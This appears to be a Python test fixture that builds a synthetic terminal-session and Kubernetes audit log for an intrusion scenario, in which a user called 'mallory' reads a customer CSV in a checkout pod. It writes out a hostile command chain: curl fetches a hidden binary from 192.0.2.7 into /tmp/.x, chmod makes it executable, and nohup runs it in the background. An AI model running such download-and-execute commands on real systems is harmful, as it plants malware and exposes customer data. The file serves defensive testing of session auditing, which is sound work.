"""The recording of docs/incident.md: somebody reads customers' data, brings a program along and leaves it running."""

from tests.support.audit import event, lines, other
from tests.support.logs import MONOTONIC, MS, SECOND, TARGET, LogBuilder, run, start_shell

_POD = {
    **TARGET, "pod": "checkout-5d8f7", "container": "app", "image": "registry.example/checkout:41", "kind": "app",
    "image_id": "registry.example/checkout@sha256:" + "ab" * 32, "labels": {"app": "checkout"},
    "owner": "Deployment/checkout", "service_account": "checkout", "node": "node-1",
}  # fmt: skip
_UPPER = 4
"""FILE_UPPER, of enum file_flag."""
_SHA256 = bytes.fromhex("5d" * 32)


def log() -> LogBuilder:
    """Two sessions: a look at the version by one, and by another what the page is about."""
    made = LogBuilder(targets=[_POD], recording="6f0d1b2c-0000-4000-8000-00000000c4fe")
    start = MONOTONIC
    made.add("session_start", 0, 1, 95, start_time=start, ns_pid=5)
    run(made, 0, 95, "cat", "/app/VERSION", ppid=50, session=1)
    made.add("exit", 20 * MS, 1, 95, start_time=start).add("session_end", 20 * MS, 1, 95)
    at = 30 * SECOND
    start_shell(made, at, session=2, pid=100)
    _types(made, at + SECOND, "cat /app/customers.csv", b"id,name,card\r\n1,Ada,4000-0000-0000-0002\r\n")
    _runs(made, at + SECOND + 5 * MS, 101, "cat", "/app/customers.csv")
    _types(made, at + 9 * SECOND, "curl -so /tmp/.x 192.0.2.7/x; chmod +x /tmp/.x", b"")
    _runs(made, at + 9 * SECOND + 5 * MS, 102, "curl", "-so", "/tmp/.x", "192.0.2.7/x")
    _runs(made, at + 10 * SECOND, 103, "chmod", "+x", "/tmp/.x")
    _types(made, at + 15 * SECOND, "nohup /tmp/.x -d /app &", b"[1] 14\r\n")
    run(
        made,
        at + 15 * SECOND + 5 * MS,
        104,
        "/tmp/.x",
        "-d",
        "/app",
        session=2,
        filename=b"/tmp/.x",
        tty=1,
        cwd=b"/app",
    )
    seen = at + 15 * SECOND + 6 * MS
    made.add(
        "exec_file", seen, 2, 104, start_time=MONOTONIC + at + 15 * SECOND + 5 * MS, inode=77, size=1_904_640,
        mode=0o100755, flags=_UPPER, path=b"/tmp/.x", filesystem=b"overlay",
    )  # fmt: skip
    made.add(
        "exec_hash",
        seen + 20 * MS,
        2,
        104,
        seq=None,
        exec_time=MONOTONIC + seen,
        size=1_904_640,
        result=1,
        sha256=_SHA256,
    )
    made.add(
        "warning", seen + SECOND, 2, 104, start_time=MONOTONIC + at + 15 * SECOND + 5 * MS, kind=2, other=31, value=16
    )
    _types(made, at + 20 * SECOND, "exit", b"exit\r\n")
    made.add("exit", at + 21 * SECOND, 2, 100, start_time=MONOTONIC + at - MS)
    return made.add("session_end", at + 21 * SECOND, 2, 100)


def _types(made: LogBuilder, at: int, line: str, answer: bytes) -> None:
    made.add("tty_out", at - 500 * MS, 2, data=b"root@checkout-5d8f7:/app# ")
    made.add("tty_in", at, 2, data=line.encode() + b"\r").add("tty_out", at + MS, 2, data=line.encode() + b"\r\n")
    if answer:
        made.add("tty_out", at + 10 * MS, 2, data=answer)


def _runs(made: LogBuilder, at: int, pid: int, *words: str) -> None:
    run(made, at, pid, *words, session=2, tty=1, cwd=b"/app")
    made.add("exit", at + 200 * MS, 2, pid, start_time=MONOTONIC + at)


def audit_log() -> bytes:
    """What the API server has noted of both."""
    at, looked = 30 * SECOND - 40 * MS, ("cat", "/app/VERSION")
    events = [
        event("deploy-bot", -40 * MS, command=looked, tty=False, after=20 * MS),
        event("deploy-bot", -40 * MS, "ResponseComplete", command=looked, tty=False, after=70 * MS),
        event("mallory", at, after=20 * MS),
        event("mallory", at, "ResponseComplete", after=21 * SECOND + 50 * MS),
    ]
    text = lines(other(-10 * SECOND), *events, other(60 * SECOND))
    return (
        text.replace(b"pods/victim", b"pods/checkout-5d8f7")
        .replace(b'"victim"', b'"checkout-5d8f7"')
        .replace(b"container=main", b"container=app")
    )
